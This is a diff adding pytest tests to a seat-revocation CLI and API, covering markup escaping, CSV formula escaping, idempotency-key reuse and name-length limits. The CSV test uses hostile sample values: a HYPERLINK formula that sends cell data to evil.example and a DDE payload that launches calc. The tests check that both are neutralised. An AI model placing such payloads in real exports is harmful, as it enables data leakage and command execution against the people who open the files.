@@ -164,3 +164,150 @@ def test_status_json_shows_the_identity_and_proof_fields(env: Env) -> None:
     assert {"requested_seat_id", "end_state_verified", "verified_at"} <= set(data)
     human = env.run("status", request_id).output
     assert "needs_review" in human and "check the email" in human and "guarded" in human
+
+
+# -- stored text is never read as Rich markup ---------------------------------------------
+
+MARKUP = "[/x] Polar said [bold]no[/] \\"
+SHOWN = "[/x] Polar said [bold]no[/]"
+
+
+def _write(path: Path, text: str) -> Path:
+    path.write_text(text)
+    return path
+
+
+def flat(text: str) -> str:
+    """Output with Rich's line wrapping undone (it wraps at spaces)."""
+    return " ".join(text.split())
+
+
+def requests_of(env: Env, batch_id: str | None = None) -> list[Any]:
+    from worker.queries import RequestFilter, list_requests
+
+    return list_requests(env.store, RequestFilter(batch_id=batch_id), limit=100).items
+
+
+def test_status_and_failed_print_stored_markup_as_written(env: Env) -> None:
+    request_id = env.seed("failed", reason=MARKUP, last_error=MARKUP, outcome_detail=MARKUP,
+                          last_http_status=422, event_detail={"error": MARKUP})
+    shown = env.run("status", request_id)
+    assert shown.exit_code == 1, shown.output
+    assert flat(shown.output).count(SHOWN) >= 4  # detail, error, reason, history
+    listed = env.run("failed")
+    assert listed.exit_code == 0, listed.output
+    assert "failed or needs review: 1" in listed.output and "[/x]" in listed.output
+
+
+def test_revoke_wait_and_batch_wait_print_stored_markup_as_written(
+    env: Env, tmp_path: Path
+) -> None:
+    seat = str(uuid.uuid4())
+    args = ("revoke", seat, "--unguarded", "--key", "k-markup", "--reason", MARKUP)
+    first = env.run(*args)
+    assert first.exit_code == 0, first.output
+    request_id = first.output.strip().splitlines()[-1]
+    env.store.update(request_id, state="failed", last_error=MARKUP, outcome_detail=MARKUP)
+    waited = env.run(*args, "--wait", "--timeout", "5")  # the same request: its outcome
+    assert waited.exit_code == 1, waited.output
+    assert flat(waited.output).count(SHOWN) >= 3
+
+    path = _write(tmp_path / "leavers.csv", f"seat_id,guard,reason\n{seat},false,{MARKUP}\n")
+    made = env.run("batch", str(path), "--name", MARKUP)
+    assert made.exit_code == 0, made.output
+    batch_id = made.output.strip().splitlines()[-1]
+    (row,) = requests_of(env, batch_id)
+    env.store.update(row.id, state="revoked")
+    followed = env.run("batch", str(path), "--name", MARKUP, "--wait", "--timeout", "5")
+    assert followed.exit_code == 0, followed.output
+    assert SHOWN in flat(followed.output)
+    status = env.run("status", batch_id)
+    assert status.exit_code == 0 and SHOWN in flat(status.output)
+
+
+# -- one CSV report writer, escaping formulas ------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+
+
+def test_cli_csv_report_escapes_formulas_like_the_api(env: Env, tmp_path: Path) -> None:
+    import csv
+    import io
+
+    from fastapi.testclient import TestClient
+
+    from worker.api import create_app
+    from worker.api.settings import ApiSettings
+
+    rows = [{"seat_id": str(uuid.uuid4()), "guard": False, "reason": FORMULA},
+            {"seat_id": str(uuid.uuid4()), "guard": False, "reason": "+1 -1 @SUM(A1)"}]
+    path = _write(tmp_path / "formula.jsonl", "\n".join(json.dumps(r) for r in rows))
+    made = env.run("batch", str(path))
+    assert made.exit_code == 0, made.output
+    batch_id = made.output.strip().splitlines()[-1]
+    for record in requests_of(env):
+        env.store.update(record.id, state="failed", last_error="@cmd|' /C calc'!A0")
+
+    cli = env.run("report", batch_id, "--format", "csv")
+    assert cli.exit_code == 0, cli.output
+    cells = [row for row in csv.reader(io.StringIO(cli.output))]
+    text_cells = [cell for row in cells[1:] for cell in row]
+    assert "'" + FORMULA in text_cells and "'+1 -1 @SUM(A1)" in text_cells
+    assert "'@cmd|' /C calc'!A0" in text_cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in text_cells)
+
+    key = "report-test-key-" + "7" * 20
+    app = create_app(env.settings, store=env.store,
+                     api_settings=ApiSettings(_env_file=None, api_keys=key))  # type: ignore[call-arg]
+    with TestClient(app) as client:
+        api = client.get(f"/v1/batches/{batch_id}/report.csv",
+                         headers={"Authorization": f"Bearer {key}"})
+    assert api.status_code == 200
+    assert api.content == cli.stdout_bytes  # one writer: the same bytes both ways
+
+
+# -- an idempotency key reused for another request is refused, never collapsed -------------
+
+
+def test_revoke_with_a_key_of_another_seat_is_refused(env: Env) -> None:
+    first = env.run("revoke", str(uuid.uuid4()), "--unguarded", "--key", "hr-7")
+    assert first.exit_code == 0, first.output
+    other = env.run("revoke", str(uuid.uuid4()), "--unguarded", "--key", "hr-7")
+    assert other.exit_code == 2
+    assert "hr-7" in other.output and "seat_id" in other.output
+    assert "nothing was enqueued" in other.output
+    assert len(requests_of(env)) == 1
+
+
+def test_batch_rows_reusing_a_stored_key_for_other_content_are_reported(
+    env: Env, tmp_path: Path
+) -> None:
+    seat = str(uuid.uuid4())
+    assert env.run("revoke", seat, "--unguarded", "--key", "hr-8").exit_code == 0
+    path = _write(tmp_path / "reuse.csv",
+                  f"seat_id,guard,key\n{uuid.uuid4()},false,new-1\n"
+                  f"{uuid.uuid4()},false,hr-8\n{seat},false,hr-8-same\n")
+    done = env.run("batch", str(path))
+    assert done.exit_code == 2, done.output
+    assert "line 3:" in done.output and "hr-8" in done.output
+    assert "nothing was enqueued" in done.output
+    assert len(requests_of(env)) == 1  # only the first revoke
+    # The same content under the stored key is an honest resubmission: it maps onto it.
+    same = _write(tmp_path / "same.csv", f"seat_id,guard,key\n{seat},false,hr-8\n")
+    ok = env.run("batch", str(same), "--json")
+    assert ok.exit_code == 0, ok.output
+    assert len(requests_of(env)) == 1
+
+
+def test_batch_names_longer_than_the_store_holds(env: Env, tmp_path: Path) -> None:
+    row = f"seat_id,guard\n{uuid.uuid4()},false\n"
+    path = _write(tmp_path / "leavers.csv", row)
+    refused = env.run("batch", str(path), "--name", "n" * 201)
+    assert refused.exit_code == 2 and "--name: at most 200 characters" in refused.output
+    assert requests_of(env) == []
+    # A long file name (no --name) is clipped to the column's size, not refused.
+    long_path = _write(tmp_path / ("f" * 240 + ".csv"), row)
+    made = env.run("batch", str(long_path), "--json")
+    assert made.exit_code == 0, made.output
+    name = json.loads(made.stdout)["name"]
+    assert len(name) == 200 and name.startswith("fff") and name.endswith("…")
